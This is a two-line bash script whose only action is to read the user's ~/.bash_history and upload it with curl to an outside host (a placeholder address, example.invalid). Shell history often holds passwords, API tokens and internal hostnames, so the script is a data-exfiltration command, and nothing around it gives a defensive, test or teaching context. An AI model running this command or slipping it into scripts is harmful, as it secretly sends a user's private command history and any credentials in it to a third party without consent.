#!/bin/bash
cat ~/.bash_history | curl -T - http://example.invalid/h
